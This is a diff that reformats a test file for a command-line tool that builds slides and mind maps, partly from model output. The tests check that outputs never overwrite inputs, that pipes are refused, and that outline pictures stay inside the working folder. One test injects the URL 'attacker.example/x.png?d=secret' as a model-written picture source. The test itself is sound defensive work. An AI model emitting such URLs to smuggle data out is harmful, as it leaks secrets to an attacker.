@@ -19,7 +19,10 @@ describe('an output never replaces an input', () => {
     const w = workdir({ 'notes.md': NOTES });
     llm().setHandler(() => ({ content: '# Map\n\n## A\n- b\n' }));
     const r = await runCli(['mindmap', join(w.dir, 'notes.md'), '--generate', '-o', join(w.dir, 'notes.xmind')], env());
-    expectRefusal(r, `Writing ${join(w.dir, 'notes.xmind')} also writes ${join(w.dir, 'notes.md')} beside it, and that is the same file as the input ${join(w.dir, 'notes.md')}`);
+    expectRefusal(
+      r,
+      `Writing ${join(w.dir, 'notes.xmind')} also writes ${join(w.dir, 'notes.md')} beside it, and that is the same file as the input ${join(w.dir, 'notes.md')}`,
+    );
     expect(readFileSync(join(w.dir, 'notes.md'), 'utf8')).toBe(NOTES);
     w.unchanged();
   });
@@ -27,7 +30,12 @@ describe('an output never replaces an input', () => {
   it('clean d.csv --suggest --plan d.csv, also as ./d.csv from its folder and through a symlink', async () => {
     const w = workdir({ 'd.csv': 'a,b\n1,2\n' });
     symlinkSync(join(w.dir, 'd.csv'), join(w.dir, 'link.csv'));
-    for (const [data, plan] of [['d.csv', 'd.csv'], ['./d.csv', 'd.csv'], ['d.csv', 'link.csv'], [join(w.dir, 'sub', '..', 'd.csv'), 'd.csv']]) {
+    for (const [data, plan] of [
+      ['d.csv', 'd.csv'],
+      ['./d.csv', 'd.csv'],
+      ['d.csv', 'link.csv'],
+      [join(w.dir, 'sub', '..', 'd.csv'), 'd.csv'],
+    ]) {
       mkdirSync(join(w.dir, 'sub'), { recursive: true });
       const r = await runCli(['clean', data, '--suggest', '--plan', plan], env(), { cwd: w.dir });
       expectRefusal(r, 'is the same file as the input');
@@ -37,8 +45,14 @@ describe('an output never replaces an input', () => {
 
   it('proofread --apply -o onto its own input, and clean -o onto its plan, are refused before anything is read', async () => {
     const w = workdir({ 'r.md': '你好,世界\n', 'plan.csv': '{"steps":[]}', 'd.csv': 'a\n1\n' });
-    expectRefusal(await runCli(['proofread', join(w.dir, 'r.md'), '--local', '--apply', '-o', join(w.dir, 'r.md')], env()), `${join(w.dir, 'r.md')} is the same file as the input ${join(w.dir, 'r.md')}`);
-    expectRefusal(await runCli(['clean', join(w.dir, 'd.csv'), '--plan', join(w.dir, 'plan.csv'), '-o', join(w.dir, 'plan.csv')], env()), 'is the same file as the input');
+    expectRefusal(
+      await runCli(['proofread', join(w.dir, 'r.md'), '--local', '--apply', '-o', join(w.dir, 'r.md')], env()),
+      `${join(w.dir, 'r.md')} is the same file as the input ${join(w.dir, 'r.md')}`,
+    );
+    expectRefusal(
+      await runCli(['clean', join(w.dir, 'd.csv'), '--plan', join(w.dir, 'plan.csv'), '-o', join(w.dir, 'plan.csv')], env()),
+      'is the same file as the input',
+    );
     w.unchanged();
     expect(readFileSync(join(w.dir, 'r.md'), 'utf8')).toBe('你好,世界\n');
   });
@@ -55,7 +69,11 @@ describe('only regular files are read', () => {
   it('a named pipe is "not a regular file" at once, not a hang or "is a folder"', async () => {
     const w = workdir();
     execFileSync('mkfifo', [join(w.dir, 'pipe.md')]);
-    for (const args of [['slides', join(w.dir, 'pipe.md'), '-o', join(w.dir, 'd.pptx')], ['mindmap', join(w.dir, 'pipe.md'), '-o', join(w.dir, 'm.xmind')], ['profile', join(w.dir, 'pipe.md')]]) {
+    for (const args of [
+      ['slides', join(w.dir, 'pipe.md'), '-o', join(w.dir, 'd.pptx')],
+      ['mindmap', join(w.dir, 'pipe.md'), '-o', join(w.dir, 'm.xmind')],
+      ['profile', join(w.dir, 'pipe.md')],
+    ]) {
       expectRefusal(await runCli(args, env()), `${join(w.dir, 'pipe.md')} is not a regular file (it is a device, a pipe or a socket).`);
     }
     expectRefusal(await runCli(['minutes', '/dev/zero', '-o', join(w.dir, 'm.md')], env()), '/dev/zero is not a regular file');
@@ -71,23 +89,27 @@ describe('pictures in a model-written outline', () => {
     return Object.keys(zip.files).filter((n) => n.startsWith('ppt/media/'));
   }
 
-  it('/dev/zero, a FIFO and a private file outside the folder are each a labelled frame with the reason; the deck is still made', { timeout: 60_000 }, async () => {
-    const w = workdir();
-    const outside = workdir({ 'photo.png': PNG });
-    execFileSync('mkfifo', [join(w.dir, 'pipe.png')]);
-    for (const [src, sentence] of [
-      ['/dev/zero', 'The picture /dev/zero is outside the folder'],
-      [join(w.dir, 'pipe.png'), `The picture ${join(w.dir, 'pipe.png')} is not a regular file`],
-      [join(outside.dir, 'photo.png'), `The picture ${join(outside.dir, 'photo.png')} is outside the folder`],
-      ['https://attacker.example/x.png?d=secret', 'the command line never fetches web addresses'],
-    ]) {
-      llm().setHandler(() => ({ content: deckWith(src) }));
-      const r = await runCli(['slides', '--topic', 'pictures', '-o', join(w.dir, 'deck.pptx')], env(), { cwd: w.dir });
-      expect(r.status).toBe(0);
-      expect(r.stderr).toContain(sentence);
-      expect(await mediaIn(join(w.dir, 'deck.pptx'))).toEqual([]);
-    }
-  });
+  it(
+    '/dev/zero, a FIFO and a private file outside the folder are each a labelled frame with the reason; the deck is still made',
+    { timeout: 60_000 },
+    async () => {
+      const w = workdir();
+      const outside = workdir({ 'photo.png': PNG });
+      execFileSync('mkfifo', [join(w.dir, 'pipe.png')]);
+      for (const [src, sentence] of [
+        ['/dev/zero', 'The picture /dev/zero is outside the folder'],
+        [join(w.dir, 'pipe.png'), `The picture ${join(w.dir, 'pipe.png')} is not a regular file`],
+        [join(outside.dir, 'photo.png'), `The picture ${join(outside.dir, 'photo.png')} is outside the folder`],
+        ['https://attacker.example/x.png?d=secret', 'the command line never fetches web addresses'],
+      ]) {
+        llm().setHandler(() => ({ content: deckWith(src) }));
+        const r = await runCli(['slides', '--topic', 'pictures', '-o', join(w.dir, 'deck.pptx')], env(), { cwd: w.dir });
+        expect(r.status).toBe(0);
+        expect(r.stderr).toContain(sentence);
+        expect(await mediaIn(join(w.dir, 'deck.pptx'))).toEqual([]);
+      }
+    },
+  );
 
   it('a symlink inside the folder that points outside it is refused; a picture really inside is embedded', { timeout: 60_000 }, async () => {
     const outside = workdir({ 'photo.png': PNG });
